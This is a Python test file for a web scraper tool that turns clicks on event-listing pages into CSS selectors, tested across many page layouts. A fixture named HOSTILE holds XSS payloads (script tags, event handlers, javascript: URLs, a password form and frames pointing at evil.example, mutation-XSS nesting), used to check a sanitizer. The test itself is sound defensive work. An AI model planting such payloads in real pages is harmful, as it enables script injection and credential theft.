"""A person corrects a recipe by clicking: the selector for an element, on pages of different build, and why not."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

import pytest
from lxml import html

from core.recipes.recipe import AUTO, Recipe, parse_recipe, parse_unfinished
from quality.places import LABELED_CARDS
from scrapers.platforms.cards.card_page import CardPage
from scrapers.platforms.cards.picking.outlines import outlines
from scrapers.platforms.cards.picking.page_copy import elements_in, page_copy
from scrapers.platforms.cards.picking.pick import CantPick, Refusal, picked
from scrapers.platforms.cards.recipes.page_reader import RecipePage, elements_of, read_page
from scrapers.platforms.cards.recipes.read import card_page, recipe_of
from scrapers.reading.contract import Context

CONTEXT = Context(
    url="https://hall.example/events", timezone="America/New_York", now=datetime(2026, 11, 20, 12, tzinfo=UTC)
)
SEASON = (
    ("Tin Herons", "December 4, 2026", "7:30 PM"),
    ("Quiet Tide", "December 11, 2026", "8 PM"),
    ("Night Ferry", "December 18, 2026", "9 PM"),
)
MENU = "<ul class='menu'><li><a href='/'>Home</a></li><li><a href='/about'>About</a></li></ul>"


def page_of(pattern: str, *, before: str = "<div>", after: str = "</div>", season: Any = SEASON) -> CardPage:
    cards = (
        pattern.format(title=title, day=day, hour=hour, n=number, month=day[:3], number=day.split()[1].rstrip(","))
        for number, (title, day, hour) in enumerate(season)
    )
    body = f"<!doctype html><html lang='en'><body>{MENU}{before}{''.join(cards)}{after}</body></html>"
    return card_page(body.encode(), CONTEXT)


def element(page: CardPage, text: str, tag: str = "*", number: int = 0) -> Any:
    """The innermost element that shows this text, among those with this tag."""
    shown = page.finder.page
    found = [one for one in page.tree.iter(tag) if shown.shows(one) and text in shown.of(one)]
    inner = [one for one in found if not any(other is not one and other in found for other in one.iter("*"))]
    return inner[number]


def pick(page: CardPage, recipe: dict[str, Any], field: str, chosen: Any) -> Recipe:
    return picked(page, parse_unfinished(recipe), field, chosen)[0]


def built(page: CardPage, **clicks: Any) -> Recipe:
    """A recipe that is made of clicks only."""
    recipe = parse_unfinished({})
    for field, chosen in clicks.items():
        recipe, _ = picked(page, recipe, field, chosen)
    return recipe


READ = {"card": "article.show", "title": "a", "date": "p.day", "time": "p.hour"}


def titles(page: CardPage, recipe: Recipe) -> list[str]:
    return [event.title for event in read_page(page, recipe).events]


PLAIN = (
    "<article class='show'><p class='kind'>Live music</p><h3><a href='/e/{n}'>{title}</a></h3><p class='day'>{day}</p>"
    "<p class='hour'>{hour}</p></article>"
)
"""Ten pages of different build, and the selectors of card, title, date, and time that the second event's parts give."""
PAGES = {
    "classes": (PLAIN, {}, ("article.show", "a", "p.day", "p.hour")),
    "no classes": (
        "<div><h4>{title}</h4><p>{day}</p><p>{hour}</p><p>Blue Room</p></div>",
        {"before": "<section>", "after": "</section>"},
        ("section > div", "h4", "p", ":scope > p:nth-child(3)"),
    ),
    "table": (
        "<tr><td>{day}</td><td>{hour}</td><td>{title}</td></tr>",
        {"before": "<table class='dates'><tr><th>Day</th><th>Hour</th><th>What</th></tr>", "after": "</table>"},
        ("table.dates > tr", "td:nth-child(3)", "td:nth-child(1)", "td:nth-child(2)"),
    ),
    "list": (
        "<li>{day}, <i>{hour}</i>: <b>{title}</b></li>",
        {"before": "<ul class='dates'>", "after": "</ul>"},
        ("ul.dates > li", "b", ":scope", "i"),
    ),
    "generated classes": (
        (
            "<div class='sc-bdVaJa css-hqkzvw event-row'><span class='jsx-abcdefg EventCard_name__aXyzQ'>{title}</span>"
            "<time class='_qwrt day'>{day}</time><span class='when'>{hour}</span></div>"
        ),
        {},
        ("div.event-row", "span", "time.day", "span.when"),
    ),
    "numbered cards": (
        (
            "<div class='post-{n} event' id='event-{n}'><h2 class='t{n}'>{title}</h2><div class='d'>{day}</div>"
            "<div class='h'>{hour}</div></div>"
        ),
        {},
        ("div.event", "h2", "div.d", "div.h"),
    ),
    "split date": (
        "<li class='row'><p class='cal'><b>{month}</b> <i>{number}</i></p><strong>{title}</strong><em>{hour}</em></li>",
        {"before": "<ul>", "after": "</ul>"},
        ("li.row", "strong", "p.cal", "em"),
    ),
    "links around": (
        (
            "<a class='tile' href='/e/{n}'><span class='name'>{title}</span><span class='on'>{day}</span>"
            "<span class='at'>{hour}</span></a>"
        ),
        {},
        ("a.tile", "span.name", "span.on", "span.at"),
    ),
    "custom elements": (
        (
            "<event-card><x-4f2a class='name'>{title}</x-4f2a><x-9b1c class='date'>{day}</x-9b1c>"
            "<x-1e0d class='hour'>{hour}</x-1e0d></event-card>"
        ),
        {},
        ("div > event-card", "*.name", "*.date", "*.hour"),
    ),
    "microdata": (
        (
            "<div class='e'><span itemprop='name'>{title}</span><span itemprop='startDate'>{day}</span>"
            "<span itemprop='startTime'>{hour}</span></div>"
        ),
        {},
        ("div.e", 'span[itemprop="name"]', 'span[itemprop="startDate"]', 'span[itemprop="startTime"]'),
    ),
}


@pytest.mark.parametrize("kind", PAGES)
def test_four_clicks_make_a_recipe(kind: str) -> None:
    pattern, around, wanted = PAGES[kind]
    page = page_of(pattern, **around)
    title, date, hour = element(page, "Quiet Tide"), element(page, "11"), element(page, "8 PM")
    recipe = built(page, card=title, title=title, date=date, time=hour)
    assert (recipe.card, recipe.title, recipe.date, recipe.time) == wanted
    assert titles(page, recipe) == ["Tin Herons", "Quiet Tide", "Night Ferry"]
    days = [event.occurrences[0].to_json()["starts_at"][:16] for event in read_page(page, recipe).events]
    assert days == ["2026-12-04T19:30", "2026-12-11T20:00", "2026-12-18T21:00"]


@pytest.mark.parametrize("field", ["title", "date", "time", "link"])
def test_each_card_gives_the_same_selector(field: str) -> None:
    page = page_of(PLAIN)
    text = {"title": 0, "link": 0, "date": 1, "time": 2}[field]
    given = {getattr(pick(page, READ, field, element(page, show[text])), field) for show in SEASON}
    assert given == {{"title": "a", "link": "a", "date": "p.day", "time": "p.hour"}[field]}


def test_a_part_that_only_some_cards_have_is_not_read_from_another() -> None:
    pattern = "<li class='e'><b>{title}</b><p>{day}</p>{hour}</li>"
    season = [(title, day, f"<p class='at'>{hour}</p><p>Blue Room</p>" if number else "<p>Blue Room</p>")
              for number, (title, day, hour) in enumerate(SEASON)]  # fmt: skip
    page = page_of(pattern, before="<ul>", after="</ul>", season=season)
    recipe = pick(page, {"card": "li.e", "title": "b", "date": "p"}, "time", element(page, "8 PM"))
    assert recipe.time == "p.at"
    known = [event.occurrences[0].time_known for event in read_page(page, recipe).events]
    assert known == [False, True, True]


def test_an_hour_in_the_date_is_read_with_it() -> None:
    page = page_of("<li class='e'><b>{title}</b><p class='old'>{day}</p><p class='new'>{day}, {hour}</p></li>")
    recipe = pick(page, {"card": "li.e", "title": "b", "date": "p.old"}, "date", element(page, "8 PM"))
    assert (recipe.date, recipe.time) == ("p.new", "p.new")


def test_a_date_above_the_cards_becomes_their_heading() -> None:
    page = page_of("<h2 class='date'>{day}</h2><div class='e'><h3>{title}</h3><p>{hour}</p></div>")
    recipe = pick(page, {"card": "div.e", "title": "h3", "date": "em"}, "date", element(page, "December 11"))
    assert (recipe.heading, recipe.date) == ("h2.date", "")
    assert titles(page, recipe) == [title for title, _, _ in SEASON]
    plain = page_of(PLAIN)
    assert pick(plain, {**READ, "heading": "h2", "date": ""}, "date", element(plain, "December 11")).date == "p.day"


@pytest.mark.parametrize(
    ("pager", "clicked", "selector"),
    [
        ("<a rel='next' href='/2'>Next</a>", "Next", 'a[rel~="next"]'),
        ("<p class='pager'><a href='/0'>Newer</a><a class='older' href='/2'><b>Older</b></a></p>", "Older", "a.older"),
        ("<p class='pager'><a href='/0'>Back</a> <a href='/2'>On</a></p>", "On", "p.pager > a:last-child"),
        ("<p><a href='/0'>Back</a> <a href='/2'>On</a><i>.</i></p>", "On",
         "html > body:nth-child(1) > p:nth-child(3) > a:nth-child(2)"),
    ],
)  # fmt: skip
def test_the_next_page_is_its_link(pager: str, clicked: str, selector: str) -> None:
    page = page_of(PLAIN, after=f"</div>{pager}")
    recipe = pick(page, READ, "next_page", element(page, clicked))
    assert recipe.next_page == selector
    assert read_page(page, recipe).next_url == "https://hall.example/2"


@pytest.mark.parametrize(
    ("field", "clicked", "refusal"),
    [
        ("card", "About us", Refusal.ONCE),
        ("title", "Home", Refusal.OUTSIDE),
        ("title", "December 11", Refusal.UNREADABLE),
        ("date", "8 PM", Refusal.UNREADABLE),
        ("date", "Home", Refusal.UNREADABLE),
        ("time", "Quiet Tide", Refusal.UNREADABLE),
        ("image", "Quiet Tide", Refusal.UNREADABLE),
        ("link", "8 PM", Refusal.UNREADABLE),
        ("next_page", "8 PM", Refusal.NO_LINK),
    ],
)
def test_what_cannot_be_a_field_is_refused(field: str, clicked: str, refusal: Refusal) -> None:
    page = page_of(PLAIN, after="</div><address>About us</address>")
    with pytest.raises(CantPick) as refused:
        pick(page, READ, field, element(page, clicked))
    assert refused.value.refusal is refusal
    assert clicked in refused.value.text


def test_a_hidden_element_is_refused() -> None:
    page = page_of("<div class='e'><b>{title}</b><p>{day}</p><script>1</script></div>")
    with pytest.raises(CantPick):
        pick(page, {"card": "div.e", "title": "b", "date": "p"}, "title", next(page.tree.iter("script")))


def test_what_a_recipe_finds_is_outlined() -> None:
    page = page_of(PLAIN, after="</div><a rel='next' href='/2'>Next</a>")
    recipe = parse_recipe({**READ, "place": "em", "link": "a", "next_page": "auto"})
    shown = page.finder.page
    found = [(field, shown.of(one)) for one, field in outlines(RecipePage(page, recipe))]
    assert found[1:5] == [
        ("title", "Tin Herons"),
        ("date", "December 4, 2026"),
        ("time", "7:30 PM"),
        ("link", "Tin Herons"),
    ]
    assert [field for field, _ in found].count("card") == 3
    assert found[-1] == ("next_page", "Next")


HOSTILE = """<script>steal()</script><style>body{background:url(//evil.example)}</style>
<p onclick="steal()" style="position:fixed" id="x">Tin &lt;b&gt; Herons</p><a href="javascript:steal()">More</a>
<form action="//evil.example"><input name="password"><button onclick="steal()">Log in</button></form>
<iframe src="//evil.example"></iframe><object data="//evil.example"></object><embed src="//evil.example">
<svg onload="steal()"><script>steal()</script></svg><img src="javascript:steal()" onerror="steal()" alt='"><script>'>
<img src="/a.jpg?x=%22&y" srcset="//evil.example 2x"><td colspan='9" onclick="steal()'>cell</td>
<x-frame srcdoc="<script>steal()</script>">shown</x-frame><meta http-equiv="refresh" content="0;//evil.example">
<base href="//evil.example"><link rel="stylesheet" href="//evil.example"><p dir="steal">kept</p><!-- steal() -->tail
<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>"""


def test_the_copy_has_text_and_pictures_and_nothing_else() -> None:
    copy = page_copy(card_page(f"<html><body>{HOSTILE}</body></html>".encode(), CONTEXT))
    tree = html.fromstring(copy)
    names = {one.tag for one in tree.iter("*")} | {name for one in tree.iter("*") for name in one.attrib}
    assert names <= {"div", "span", "p", "td", "table", "tr", "tbody", "img"} | {
        "data-n", "class", "src", "alt", "referrerpolicy", "loading", "colspan",
    }  # fmt: skip
    assert [one.get("src") for one in tree.iter("img") if one.get("src")] == ["https://hall.example/a.jpg?x=%22&y"]
    assert "evil" not in copy
    assert "steal" not in copy
    assert "Tin &lt;b&gt; Herons" in copy
    assert {"shown", "kepttail", "HeronsMore"} <= set(tree.text_content().split())


def test_each_element_of_the_copy_has_its_number() -> None:
    page = page_of(PLAIN)
    elements, tree = elements_in(page), html.fromstring(page_copy(page))
    numbered = {int(one.get("data-n")): one.text_content() for one in tree.iter("*") if one.get("data-n")}
    assert {number: elements[number].text_content() for number in numbered} == numbered
    assert len(numbered) > 15


@pytest.mark.skipif(not LABELED_CARDS.is_dir(), reason=f"{LABELED_CARDS} is missing")
def test_on_recorded_pages_a_click_gives_what_the_reader_of_cards_found() -> None:
    """A sixth of the pages. Cards of two kinds on one page have a selector each, which one click can't know."""
    same, clicks = 0, 0
    for case in json.loads((LABELED_CARDS / "cases.json").read_text())[::6]:
        body = (LABELED_CARDS / case["file"]).read_bytes()
        now = datetime.fromisoformat(case["now"])
        context = Context(url=case["url"], timezone=case["timezone"], now=now)
        if (recipe := recipe_of(body, context)) is None:
            continue
        page = card_page(body, context)
        reader = RecipePage(page, recipe)
        (parts, _), *_ = reader.events()
        wanted = read_page(page, recipe).events
        for field in ("title", "date", "time", "place", "link", "image"):
            written = getattr(recipe, field)
            chosen = parts.holder(field, written, reader.mention_of(parts)) if written not in ("", AUTO) else None
            if chosen is None or isinstance(chosen, str):
                continue
            clicks += 1
            same += read_page(page, picked(page, recipe, field, chosen)[0]).events == wanted
    assert clicks > 25
    assert same >= 0.93 * clicks


def test_a_click_in_many_nested_lists_costs_what_the_page_has() -> None:
    """With XPath's own steps, libxml2 compares the cards of each level with those of all others: this took minutes."""
    days = "".join(f"<p class='day'>Herons {number} Dec {number + 1}, 2026</p>" for number in range(20))
    body = f"<html><body>{f'<div class=level>{days}' * 200}{'</div>' * 200}</body></html>"
    page = card_page(body.encode(), CONTEXT)
    recipe = pick(page, {}, "card", elements_in(page)[-1])
    assert (recipe.card, len(elements_of(page, "div.level p"))) == ("p.day", 4000)
